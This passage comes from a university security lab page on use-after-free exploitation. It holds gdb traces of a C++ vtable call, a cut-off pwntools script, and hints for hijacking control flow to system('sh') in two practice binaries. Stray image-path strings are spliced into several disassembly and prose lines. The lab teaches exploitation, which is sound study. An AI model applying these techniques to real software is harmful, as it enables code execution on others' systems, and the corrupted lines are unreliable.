   0x0000000000401261 <+100>:   mov    QWORDPTR [rbp-0x28],rbx <- pointer stored on stack
   0x00000000004012e2 <+229>:   mov    rax,QWORD PTR [rbp-0x28] <- get pointer from stack
   0x00000000004012e6 <+233>:   mov    rax,QWORD PTR [rax]      <- get VFT (offset 0 in class)
   0x00000000004012e9 <+236>:   mov    rdx,QWORD PTR [rax]      <- get VFT[0] (negate method)
   0x00000000004012ec <+239>:   mov    rax,QWORD PTR [rbp-0x28] <- get pointer from stack
   0x00000000004012f0 <+243>:   mov    rdi,rax                  <- first arg (this)
   0x00000000004012f3 <+246>:   call   rdx                      <- call negate(this)

Like in the C tutorial, check that the second malloc returns the same address (if we input -1 so the object is deleted):

gdb-peda$ b *0x401251
gdb-peda$ c
Enter a number: -1
   0x40124c <main+79>:  call   0x401090 <operator new(unsigned long)@plt>
=> 0x401251 <main+84>:  mov    rbx,rax
gdb-peda$ p/x $rax
$1 = 0x4176d0
gdb-peda$ b *0x4012a1
gdb-peda$ c
   0x40129c <main+159>: call   0x401030 <operator new[](unsigned long)@plt>
=> 0x4012a1 <main+164>: mov    QWORD PTR [rbp-0x20],rax
gdb-peda$ p/x $rax
$2 = 0x4176d0

Use the following script to get the program to call bad_func:

from pwn import *
elf = ELF('./cpp_tut')
io = process('./cpp_tut')


$ python2
[*] '/home/student/cns/10-UAF/00-cpp-tutorial/cpp_tut'
    Arch:     amd64-64-little
    RELRO:    Partial RELRO
    Stack:    Canary found
    NX:       NX enabled
    PIE:      No PIE (0x400000)
[+] Startinglocal process './cpp_tut': pid 29763
[*] Switching to interactive mode
[*] Process './cpp_tut' stopped with exit code 0 (pid 29763)
Enter a number:Read a header:\x90@@:Your 'this' pointer = 0x15c72d0


All content necessary for the CNS laboratory tasks can be found in the CNS public repository.

List Printer - C++

Go to the 01-list-printer/ directory and examine the code/binary to find the use-after-free bug. Create an exploit to run a shell.

Point - C

Go to the 02-point/ directory and examine the code/binary to find the use-after-free bug. Create an exploit to run system(“sh”)

The program never checks if the id corresponds to an existing point.

Look at the structs, how would a struct point3D overlap over a struct point2D?

       point2D               point3D
  +---+     +---+
  |   x   |   y   |     |   x   |   y   |
  +---+     +---+
  |  vector_len   |     |   z   |   0   |
  +---+     +---+|  vector_len   |

If we check the address of system@plt it should have 3 non-0 bytes so it can be overwritten with the value of z.

gdb-peda$ info address system@plt
Symbol "system@plt" is at 0x401070in a file compiled without debugging.

How to send the “sh” argument to system?

The function will be called with a pointer to the structure itself:


Lets pretend the pointer is casted to char*. The string will be formed out of the concatenated raw bytes of the structure (until \x00). It should be enough to set x to “sh\x00\x00” unpacked.


cns/labs/lab-10.txt · Last modified: 2021/01/11 16:59 by mihai.dumitru2201
CC Attribution-Share Alike 3.0 Unported Valid CSSDriven by DokuWiki do yourself a favour and use a real browser - get firefox!! Recent changes RSS feed Valid XHTML 1.0